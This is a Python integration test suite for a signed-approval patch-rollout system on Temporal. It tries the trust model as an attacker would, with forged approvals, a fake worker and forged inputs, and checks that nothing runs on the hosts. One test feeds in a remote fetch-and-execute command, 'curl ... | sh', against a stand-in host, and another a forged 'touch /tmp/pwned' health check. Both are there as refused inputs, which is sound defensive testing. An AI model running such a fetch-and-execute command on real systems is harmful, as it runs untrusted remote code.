"""The trust model, tried as an attacker would (issue 13): with a plain Temporal client, a fake
worker, forged inputs and forged signatures, nothing runs on any host; the happy paths still work.

Real Temporal dev server, real OpenBao, the real sshd lab; the worker reads a real policy file and
verifies real SSH signatures. "Nothing ran" is read from every lab host's own command log.
"""

from __future__ import annotations

import asyncio
import uuid
from collections.abc import AsyncIterator
from dataclasses import dataclass
from datetime import UTC, datetime
from pathlib import Path

import asyncssh
import pytest
import pytest_asyncio
from temporalio import activity
from temporalio.client import (
    Client,
    WorkflowFailureError,
    WorkflowHandle,
    WorkflowUpdateFailedError,
)
from temporalio.common import SearchAttributeKey, SearchAttributePair, TypedSearchAttributes
from temporalio.worker import Worker
from typer.testing import CliRunner

from activities.inventory import InventoryActivities
from activities.policy import load_policy
from bot import schedules
from bot.rollouts import Rollouts
from bot.settings import Settings
from bot.signing import Signer, digest_here
from bot.worker import WorkerParts
from lab import Lab
from tests.integration.test_rollout import UPDATE, acli
from tests.support import FLEET, SERVICES, decoded_history, record_history, running_worker
from workflows import names
from workflows.host_patch import HostPatchWorkflow
from workflows.models import (
    WORKFLOW_NAME,
    ApprovalDecision,
    ClusterHosts,
    ClusterHostsRequest,
    HostCommands,
    Phase,
    RolloutCarry,
    RolloutInput,
    RolloutSummary,
)
from workflows.sandbox import workflow_runner
from workflows.system_patch import SystemPatchWorkflow

BOB, ALICE, CAROL, MALLORY = (f"{n}@example.com" for n in ("bob", "alice", "carol", "mallory"))


@dataclass
class Keys:
    """Private key files by signer name, and the policy file that lists their public halves."""

    paths: dict[str, Path]
    policy: Path

    def signer(self, name: str) -> Signer:
        return Signer(self.paths[name], name)


def _key(tmp: Path, name: str) -> tuple[Path, str]:
    key = asyncssh.generate_private_key("ssh-ed25519", comment=name)
    path = tmp / f"{name}_ed25519"
    path.write_bytes(key.export_private_key())
    path.chmod(0o600)
    return path, key.export_public_key().decode().strip()


def write_policy(tmp: Path, clusters: str) -> Keys:
    paths, public = {}, {}
    for name in ("alice", "bob", "carol", "mallory", "slack"):
        paths[name], public[name] = _key(tmp, name)
    policy = tmp / "policy.yml"
    people = "\n".join(
        f'  {n}: {{email: {n}@example.com, keys: ["{public[n]}"]}}'
        for n in ("alice", "bob", "carol", "mallory")
    )
    policy.write_text(
        f'people:\n{people}\nfrontends:\n  slack: {{keys: ["{public["slack"]}"]}}\n'
        f"clusters:\n{clusters}"
    )
    load_policy(policy)  # the test's own policy must be valid
    return Keys(paths, policy)


TWO_APPROVERS = f"""  "cluster-*":
    requesters: [bob]
    approvers: [alice, carol]
    minApprovals: 2
    updateProfiles: {{security: "{UPDATE}"}}
    allowCustomUpdate: false
    maxHosts: 10
    dryRunBy: [bob]
"""

ONE_EACH = f"""  cluster-a:
    requesters: [bob]
    approvers: [alice]
    updateProfiles: {{security: "{UPDATE}"}}
  cluster-b:
    requesters: [bob]
    approvers: [carol]
    updateProfiles: {{security: "{UPDATE}"}}
"""


@pytest.fixture
def keys(tmp_path: Path) -> Keys:
    return write_policy(tmp_path, TWO_APPROVERS)


@pytest.fixture
def policy_settings(worker_settings: Settings, keys: Keys) -> Settings:
    return worker_settings.model_copy(update={"policy": keys.policy})


@pytest_asyncio.fixture
async def guarded(temporal_client: Client, policy_settings: Settings) -> AsyncIterator[None]:
    async with running_worker(temporal_client, policy_settings):
        yield


def request(clusters: list[str] | None = None, **extra: object) -> RolloutInput:
    return RolloutInput.model_validate(
        {
            "targetClusters": clusters or ["cluster-a"],
            "pilotHostCount": 1,
            "requesterEmail": BOB,
            "updateCommand": UPDATE,
            "serviceList": SERVICES,
            "approvalTimeout": 20,
            **extra,
        }
    )


async def start(
    client: Client,
    settings: Settings,
    rollout: RolloutInput,
    search_attributes: TypedSearchAttributes | None = None,
) -> WorkflowHandle[SystemPatchWorkflow, RolloutSummary]:
    return await client.start_workflow(
        WORKFLOW_NAME,
        rollout,
        id=f"trust-{uuid.uuid4().hex[:8]}",
        task_queue=settings.task_queue,
        result_type=RolloutSummary,
        search_attributes=search_attributes,
    )


async def asking(client: Client, handle: WorkflowHandle) -> str:
    """Wait until the rollout asks for approval; its digest."""
    rollouts = Rollouts(client)
    found: list[str] = []

    async def check() -> None:
        progress = await rollouts.progress(handle.id, steps=False)
        if progress.phase == Phase.AWAITING_APPROVAL and progress.digest:
            found.append(progress.digest)

    for _ in range(200):
        await check()
        if found:
            return found[0]
        await asyncio.sleep(0.1)
    raise AssertionError("the rollout never asked for approval")


def signed(
    keys: Keys, handle: WorkflowHandle, approver: str, digest: str, *, by: str | None = None
) -> ApprovalDecision:
    signer = keys.signer(by or approver.split("@")[0])
    proof = signer.proof(handle.id, "approve", approver, digest)
    return ApprovalDecision(approver=approver, proof=proof)


async def refused(handle: WorkflowHandle, decision: ApprovalDecision) -> str:
    with pytest.raises(WorkflowUpdateFailedError) as failed:
        await handle.execute_update("approve", decision, result_type=str)
    cause = failed.value.cause
    return str(getattr(cause, "message", cause))


def untouched(lab: Lab) -> None:
    for hosts in FLEET.values():
        for host in hosts:
            assert lab.command_log(host) == [], f"{host} received commands"


async def ends_without_touching(handle: WorkflowHandle, lab: Lab, phase: str) -> str:
    try:
        summary = await asyncio.wait_for(handle.result(), 60)
        message = summary.message
        assert summary.phase == phase, summary
    except WorkflowFailureError as failure:
        message = str(failure.cause)
        assert phase == Phase.FAILED, message
    untouched(lab)
    return message


# ---- attacks with a plain Temporal client ------------------------------------------------------


async def test_raw_client_approvals_without_valid_proofs_are_refused_and_nothing_runs(
    fleet: Lab, guarded: None, temporal_client: Client, policy_settings: Settings, keys: Keys
) -> None:
    handle = await start(temporal_client, policy_settings, request())
    digest = await asking(temporal_client, handle)
    other = "sha256:" + "0" * 64

    no_proof = await refused(handle, ApprovalDecision(approver=ALICE))
    assert "carries no proof" in no_proof
    # Mallory's key, claiming to be Alice's own signature.
    forged = signed(keys, handle, ALICE, digest, by="mallory")
    forged.proof = forged.proof.model_copy(update={"signer": "alice"})  # type: ignore[union-attr]
    assert "does not verify" in await refused(handle, forged)
    # A key the policy gives nobody: the signer name is not trusted for Alice.
    assert "may not vouch" in await refused(handle, signed(keys, handle, ALICE, digest, by="bob"))
    # A valid signature, but for another digest (another command or host list).
    assert "is signed for" in await refused(handle, signed(keys, handle, ALICE, other))
    # The requester, and someone who is not an approver.
    assert "cannot approve" in await refused(handle, signed(keys, handle, BOB, digest))
    assert "not an approver" in await refused(handle, signed(keys, handle, MALLORY, digest))
    # One valid approval where the policy wants two; the same approver twice.
    answer = await handle.execute_update(
        "approve", signed(keys, handle, ALICE, digest), result_type=str
    )
    assert "still needed" in answer and CAROL in answer
    assert "already approved" in await refused(handle, signed(keys, handle, ALICE, digest))
    progress = await Rollouts(temporal_client).progress(handle.id, steps=False)
    assert progress.approved_by == [ALICE] and progress.phase == Phase.AWAITING_APPROVAL
    await ends_without_touching(handle, fleet, Phase.APPROVAL_TIMED_OUT)


async def test_what_the_policy_forbids_is_refused_before_anyone_is_asked(
    fleet: Lab, guarded: None, temporal_client: Client, policy_settings: Settings
) -> None:
    custom = await start(
        temporal_client, policy_settings, request(updateCommand="curl -s http://x.example/y | sh")
    )
    said = await ends_without_touching(custom, fleet, Phase.FAILED)
    assert "free-form update commands" in said
    stranger = await start(temporal_client, policy_settings, request(requesterEmail=MALLORY))
    assert "may not start rollouts" in await ends_without_touching(stranger, fleet, Phase.FAILED)
    outside = await start(temporal_client, policy_settings, request(approverEmails=[MALLORY]))
    said = await ends_without_touching(outside, fleet, Phase.FAILED)
    assert "may not approve cluster-a" in said


async def test_a_forged_schedule_pre_approval_and_a_forged_continued_input_run_nothing(
    fleet: Lab, guarded: None, temporal_client: Client, policy_settings: Settings
) -> None:
    # A run that claims a schedule started it and that Alice pre-approved it.
    claimed = request(preApprovedBy={"approver": ALICE}, approvalTimeout=3)
    try:
        scheduled = await start(
            temporal_client,
            policy_settings,
            claimed,
            search_attributes=TypedSearchAttributes(
                [
                    SearchAttributePair(
                        SearchAttributeKey.for_keyword("TemporalScheduledById"), "weekly"
                    )
                ]
            ),
        )
    except Exception as refused_by_server:
        assert "TemporalScheduledById" in str(refused_by_server)
    else:
        await ends_without_touching(scheduled, fleet, Phase.APPROVAL_TIMED_OUT)

    # A run that claims to continue an approved one: the carried approvals must verify.
    carry = RolloutCarry(
        started_at=datetime.now(UTC),
        decided_by=ALICE,
        targets={"cluster-a": []},
        approvals=[ApprovalDecision(approver=ALICE), ApprovalDecision(approver=CAROL)],
    )
    continued = await start(temporal_client, policy_settings, request(continued=carry))
    said = await ends_without_touching(continued, fleet, Phase.FAILED)
    assert "approval" in said


async def test_a_fake_worker_that_forges_the_host_list_gets_nothing_run(
    fleet: Lab, temporal_client: Client, policy_settings: Settings, keys: Keys
) -> None:
    """The attacker's worker answers GetClusterHostsActivity with a1's health check replaced;
    even with both approvers' keys signing exactly the forged digest, the real worker computes
    the digest from its own inventory and refuses every host step."""
    real = InventoryActivities(policy_settings.inventory)

    @activity.defn(name=names.GET_CLUSTER_HOSTS)
    async def forged(request_: ClusterHostsRequest) -> ClusterHosts:
        hosts = real.clusters()[request_.target_cluster][0]
        evil = HostCommands(health_check="touch /tmp/pwned")
        hosts = [hosts[0].model_copy(update={"commands": evil}), *hosts[1:]]
        return ClusterHosts(cluster=request_.target_cluster, hosts=hosts)

    fake = Worker(
        temporal_client,
        task_queue=policy_settings.task_queue,
        workflows=[SystemPatchWorkflow, HostPatchWorkflow],
        # Everything a worker has, but the host list is the attacker's answer.
        activities=[
            forged,
            *(
                a
                for a in WorkerParts(policy_settings).activities()
                if getattr(a, "__temporal_activity_definition").name != names.GET_CLUSTER_HOSTS
            ),
        ],
        workflow_runner=workflow_runner(),
    )
    async with fake:
        handle = await start(temporal_client, policy_settings, request(approvalTimeout=60))
        digest = await asking(temporal_client, handle)
        # What approvers' own front ends compute, from the real inventory, is not that digest.
        honest = digest_here(request(), policy_settings.inventory)
        assert honest != digest
        assert "is signed for" in await refused(handle, signed(keys, handle, ALICE, honest))
        # Tricked approvers (or stolen keys) sign the forged digest itself.
        for who in (ALICE, CAROL):
            await handle.execute_update(
                "approve", signed(keys, handle, who, digest), result_type=str
            )
    async with running_worker(temporal_client, policy_settings):
        said = await ends_without_touching(handle, fleet, Phase.FAILED)
    # The signatures cover the forged digest, not what this worker's inventory gives.
    assert "refused to run anything on a1" in said and "needs 2 verified approval" in said


# ---- the happy paths ---------------------------------------------------------------------------


async def test_two_approvers_sign_with_their_own_keys_on_the_cli_and_every_host_is_patched(
    fleet: Lab, guarded: None, temporal_client: Client, policy_settings: Settings, keys: Keys
) -> None:
    # Two `patchpilot approve` processes must both run within the approval window: a window
    # wide enough for a loaded machine (the timeout itself is what other tests here check).
    rollout = request(updateProfile="security", approvalTimeout=300)
    handle = await start(temporal_client, policy_settings, rollout)
    await asking(temporal_client, handle)
    first = await acli(
        policy_settings, "approve", handle.id, "--as", ALICE, "--key", str(keys.paths["alice"])
    )
    assert first.returncode == 0, first.stdout + first.stderr
    assert f"update command: {UPDATE}" in first.stdout and "signing sha256:" in first.stdout
    assert "still needed" in first.stdout
    untouched(fleet)
    second = await acli(
        policy_settings, "approve", handle.id, "--as", CAROL, "--key", str(keys.paths["carol"])
    )
    assert second.returncode == 0, second.stdout + second.stderr
    summary = await asyncio.wait_for(handle.result(), 120)
    assert summary.phase == Phase.SUCCEEDED and summary.patched == 3, summary
    await record_history(temporal_client, handle.id, "policy-approved")
    # Signatures travel through Temporal; the keys that made them never do.
    history = decoded_history((await handle.fetch_history()).to_json())
    assert "BEGIN SSH SIGNATURE" in history  # the payloads were read: the proofs are there
    assert "PRIVATE KEY" not in history
    for name in ("alice", "carol", "slack"):
        body = keys.paths[name].read_text().splitlines()[1:-1]
        assert not any(line in history for line in body), name
    for host in FLEET["cluster-a"]:
        assert UPDATE in fleet.command_log(host)[-10:] or any(
            UPDATE in line for line in fleet.command_log(host)
        )


async def test_a_multi_cluster_rollout_needs_each_clusters_approvers(
    fleet: Lab, temporal_client: Client, worker_settings: Settings, tmp_path: Path
) -> None:
    keys = write_policy(tmp_path, ONE_EACH)
    settings = worker_settings.model_copy(update={"policy": keys.policy})
    async with running_worker(temporal_client, settings):
        handle = await start(temporal_client, settings, request(["cluster-a", "cluster-b"]))
        digest = await asking(temporal_client, handle)
        answer = await handle.execute_update(
            "approve", signed(keys, handle, ALICE, digest), result_type=str
        )
        assert f"cluster-b: 1 more of {CAROL}" in answer
        untouched(fleet)
        # Carol clicks in Slack: the bot signs for her with its own key.
        slack = signed(keys, handle, CAROL, digest, by="slack")
        await handle.execute_update("approve", slack, result_type=str)
        summary = await asyncio.wait_for(handle.result(), 120)
    assert summary.phase == Phase.SUCCEEDED and summary.patched == 6, summary


def test_the_worker_refuses_to_start_without_a_policy_unless_told_it_is_development(
    monkeypatch: pytest.MonkeyPatch, tmp_path: Path
) -> None:
    from bot.cli import app

    monkeypatch.delenv("PATCHPILOT_POLICY", raising=False)
    monkeypatch.setenv("PATCHPILOT_DATA_DIR", str(tmp_path))
    monkeypatch.setenv("PATCHPILOT_INVENTORY", str(tmp_path / "inventory.yml"))
    result = CliRunner().invoke(app, ["worker"])
    assert "PATCHPILOT_POLICY is not set" in str(result.exception)
    assert "--no-policy" in str(result.exception)
    broken = tmp_path / "policy.yml"
    broken.write_text("people: {}\n")
    monkeypatch.setenv("PATCHPILOT_POLICY", str(broken))
    result = CliRunner().invoke(app, ["worker"])
    assert "people: at least one person is needed" in str(result.exception)


async def test_a_schedule_runs_on_its_approvers_signed_grants_and_only_on_them(
    fleet: Lab,
    guarded: None,
    temporal_client: Client,
    policy_settings: Settings,
    keys: Keys,
    tmp_path: Path,
) -> None:
    schedule_id = f"weekly-{uuid.uuid4().hex[:6]}"
    await schedules.create(
        temporal_client,
        schedule_id,
        request(updateProfile="security", approvalTimeout=4),
        cron="0 3 1 1 *",
        timezone="UTC",
        task_queue=policy_settings.task_queue,
    )
    try:
        stored = tmp_path / "rollout.json"
        stored.write_text(request().model_dump_json(by_alias=True, exclude_none=True))
        refused_create = await acli(
            policy_settings,
            "schedule", "create", "other", "--input", str(stored), "--cron", "0 3 * * *",
            "--pre-approved-by", ALICE,
        )  # fmt: skip
        assert refused_create.returncode != 0
        assert "schedule grant other" in refused_create.stderr, refused_create.stderr
        # Alice's grant alone is one of the two approvals the policy demands: the run asks.
        granted = await acli(
            policy_settings,
            "schedule", "grant", schedule_id, "--as", ALICE, "--key", str(keys.paths["alice"]),
        )  # fmt: skip
        assert granted.returncode == 0, granted.stdout + granted.stderr
        assert "signing sha256:" in granted.stdout
        first = await scheduled_run(temporal_client, schedule_id)
        assert (await asyncio.wait_for(first.result(), 60)).phase == Phase.APPROVAL_TIMED_OUT
        untouched(fleet)
        granted = await acli(
            policy_settings,
            "schedule", "grant", schedule_id, "--as", CAROL, "--key", str(keys.paths["carol"]),
        )  # fmt: skip
        assert granted.returncode == 0, granted.stdout + granted.stderr
        second = await scheduled_run(temporal_client, schedule_id, after=first.id)
        summary = await asyncio.wait_for(second.result(), 120)
        assert summary.phase == Phase.SUCCEEDED and summary.patched == 3, summary
    finally:
        await schedules.act(temporal_client, schedule_id, "delete")


async def scheduled_run(
    client: Client, schedule_id: str, after: str | None = None
) -> WorkflowHandle[SystemPatchWorkflow, RolloutSummary]:
    """Trigger one run of the schedule now; its handle."""
    await schedules.act(client, schedule_id, "trigger")
    for _ in range(100):
        description = await client.get_schedule_handle(schedule_id).describe()
        ids = [getattr(a.action, "workflow_id", "") for a in description.info.recent_actions]
        fresh = [i for i in ids if i and i != after]
        if fresh:
            return client.get_workflow_handle_for(SystemPatchWorkflow.run, fresh[-1])
        await asyncio.sleep(0.2)
    raise AssertionError("the schedule started no run")
